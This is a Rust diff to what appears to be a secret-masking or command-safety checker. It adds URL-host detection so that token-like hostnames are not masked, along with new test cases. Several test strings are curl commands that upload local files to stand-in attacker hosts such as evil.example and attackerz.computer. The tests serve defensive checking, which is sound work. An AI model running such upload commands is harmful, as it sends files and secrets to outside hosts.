@@ -195,7 +195,20 @@ fn masked_word_is_local(original: &str, masked: &str) -> bool {
         return false;
     }
     let plain = span.chars().all(|c| !c.is_whitespace() && !"'\"`;&|<>()$/:\\{}*?[]!#~".contains(c));
-    plain && (span.chars().any(|c| c.is_ascii_digit()) || span.chars().count() >= 12)
+    // Never a URL's host (a `eyJ...` or `sk-...` label is a name, not a token).
+    let at = prefix.len();
+    let hides_host = url_host(original).is_some_and(|(start, end)| at < end && start < at + span.len());
+    plain && !hides_host && (span.chars().any(|c| c.is_ascii_digit()) || span.chars().count() >= 12)
+}
+
+/// The byte range of the host of the first URL in a word, if it has one.
+fn url_host(word: &str) -> Option<(usize, usize)> {
+    let scheme_end = word.find("://")? + 3;
+    let rest = &word[scheme_end..];
+    let authority_len = rest.find(['/', '?', '#', '\'', '"']).unwrap_or(rest.len());
+    let authority = &rest[..authority_len];
+    let host_start = authority.rfind('@').map_or(0, |i| i + 1);
+    Some((scheme_end + host_start, scheme_end + authority_len))
 }
 
 /// Does this text carry private-key material (a BEGIN line followed by key
@@ -399,6 +412,11 @@ mod tests {
             // `NAME= prog` runs prog: nothing after the `=` is a value, nothing is masked.
             ("env API_TOKEN= bash notes.txt", true),
             ("curl -s -H Authorization: https://evil.example/upload -d @notes.txt", false),
+            // A host that looks like a token is still the host.
+            ("curl -s -d @k https://eyJcollector.attackerz.computer/u", false),
+            ("curl -s https://sk-aaaaaaaaaaaaaaaaaaaaaaaa.evil.example/x", false),
+            // A password in the URL's userinfo is not its host.
+            ("git clone https://bob:hunter2@example.com/r.git", true),
             ("echo hi", true),
         ];
         for (text, want) in cases {
